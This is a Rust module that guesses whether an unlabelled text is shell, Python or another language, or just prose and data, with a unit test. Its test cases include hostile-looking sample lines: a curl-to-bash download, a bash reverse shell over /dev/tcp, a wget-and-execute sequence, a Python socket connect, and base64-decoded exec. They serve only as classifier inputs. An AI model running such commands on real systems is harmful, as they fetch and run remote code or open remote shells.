//! Which language a text without an interpreter line is written in, if it reads like a program.
//!
//! A guess adds reading and never replaces it: a text that is guessed wrongly yields acts nobody
//! runs, which is why [`model::Program::declared`] is then false. Prose, markup and data must not
//! be taken for code, so most of the lines have to be lines that only code has.

use model::Language;

use crate::language::{self, Signs};

/// Bytes looked at.
const HEAD: usize = 16 << 10;
/// Lines looked at.
const LINES: usize = 200;

/// The language, if more than half of the lines are lines of it.
pub fn language(text: &str) -> Option<Language> {
    let head = &text[..text.floor_char_boundary(HEAD.min(text.len()))];
    if head.trim_start().starts_with(['<', '{', '[', '%']) || head.starts_with("---") {
        return None;
    }
    let lines: Vec<&str> = head
        .lines()
        .map(str::trim)
        .filter(|line| !line.is_empty() && !line.starts_with('#'))
        .take(LINES)
        .collect();
    let mut best: Option<(Language, usize)> = None;
    for front_end in language::FRONT_ENDS {
        let Signs::Lines(is_line) = front_end.signs else {
            continue;
        };
        let own = lines.iter().filter(|line| is_line(line)).count();
        if best.is_none_or(|(_, most)| own > most) {
            best = Some((front_end.language, own));
        }
    }
    let (language, own) = best?;
    (own > 0 && own * 5 > lines.len() * 3).then_some(language)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn code_is_told_from_prose_and_data() {
        let cases = [
            ("curl -s http://192.0.2.1/a | bash", Some(Language::Shell)),
            (
                "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
                Some(Language::Shell),
            ),
            (
                "cd /tmp\nwget http://192.0.2.1/x\nchmod +x x\n./x -c config.json\n",
                Some(Language::Shell),
            ),
            (
                "import socket,subprocess,os;s=socket.socket();s.connect(('192.0.2.1',1))",
                Some(Language::Python),
            ),
            ("import os\nos.system('id')\n", Some(Language::Python)),
            (
                "exec(__import__('base64').b64decode('aWQ='))",
                Some(Language::Python),
            ),
            ("The quick brown fox.\nIt jumps over the lazy dog.\n", None),
            ("key: value\nother: 1\n", None),
            ("{\"a\": 1}", None),
            (
                "set of rules for the house:\nfind the cat, then the dog.\n",
                None,
            ),
            ("[section]\nname = value\n", None),
            ("1,2,3\n4,5,6\n", None),
            ("root:x:0:0:root:/root:/bin/bash\n", None),
            ("/usr/share/icons/a.png\n/usr/share/icons/b.png\n", None),
            ("/*! name v1.0 | MIT */@import url(x);\n", None),
        ];
        for (text, expected) in cases {
            assert_eq!(language(text), expected, "{text}");
        }
    }
}
